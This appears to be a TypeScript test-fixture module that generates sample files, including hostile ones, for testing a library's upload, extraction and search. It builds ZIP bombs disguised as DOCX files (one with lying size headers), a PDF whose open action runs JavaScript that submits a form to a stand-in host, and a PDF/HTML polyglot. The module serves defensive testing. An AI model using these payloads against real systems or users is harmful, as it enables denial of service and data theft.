// Files for tests of upload, extraction and search: every format the library accepts, and the hostile ones.
// Everything is generated in memory (fast, nothing binary committed); `writeFixture` puts one on disk.
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { makePdf } from './pdf-writer';
import { deflatedZeros, zip } from './zip-writer';

export { makeDocx, makePptx, makeXlsx } from './office-fixtures';
export type { OfficeOptions, SheetFixture } from './office-fixtures';
export { makeEpub, makeOdp, makeOds, makeOdt } from './odf-epub-fixtures';
export { makeImage, makePngDeclaring } from './image-fixtures';
export { makePdf, pdfLines } from './pdf-writer';
export type { PdfOptions } from './pdf-writer';
export { deflatedZeros, zip } from './zip-writer';
export type { ZipEntry } from './zip-writer';

/** A ZIP bomb disguised as DOCX: a real document plus 64 entries of 16 MB of zeros each (1 GB inflated, 1 MB on disk). */
export function makeZipBombDocx(): Buffer {
  const brick = deflatedZeros(16);
  return zip([
    {
      name: '[Content_Types].xml',
      data: '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
    },
    {
      name: 'word/document.xml',
      data: '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>',
    },
    ...Array.from({ length: 64 }, (_, index) => ({ name: `word/media/zeros${index}.bin`, data: '', deflated: brick })),
  ]);
}

/** A bomb whose headers lie: each entry claims 1 KB but inflates to 16 MB, so only counting while inflating stops it. */
export function makeLyingZipBombDocx(): Buffer {
  const brick = deflatedZeros(16);
  return zip([
    {
      name: '[Content_Types].xml',
      data: '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
    },
    ...Array.from({ length: 40 }, (_, index) => ({
      name: `word/media/zeros${index}.bin`,
      data: '',
      deflated: brick,
      declaredSize: 1024,
    })),
  ]);
}

/** A PDF that asks readers to run JavaScript when opened (/OpenAction /S /JavaScript). */
export function makePdfWithJavaScript(text: string): Buffer {
  return makePdf([text], {
    openActionJavaScript: 'app.alert("Bonjour"); this.submitForm("https://example.invalid/vol");',
  });
}

/** A polyglot: a PDF header, then an HTML page with a script, ending like a PDF. */
export function makePolyglotPdf(): Buffer {
  return Buffer.from(
    '%PDF-1.7\n<!doctype html><html><body><script>fetch("/graphql")</script><p>Bonjour</p></body></html>\n%%EOF\n',
    'latin1',
  );
}

/** The first `fraction` of a valid PDF, as an interrupted upload leaves it. */
export function truncate(file: Buffer, fraction: number): Buffer {
  return file.subarray(0, Math.floor(file.length * fraction));
}

/** Writes `bytes` to a new temporary folder under `name` and answers the path. */
export function writeFixture(name: string, bytes: Buffer): string {
  const path = join(mkdtempSync(join(tmpdir(), 'culture-commune-fichier-')), name);
  writeFileSync(path, bytes);
  return path;
}
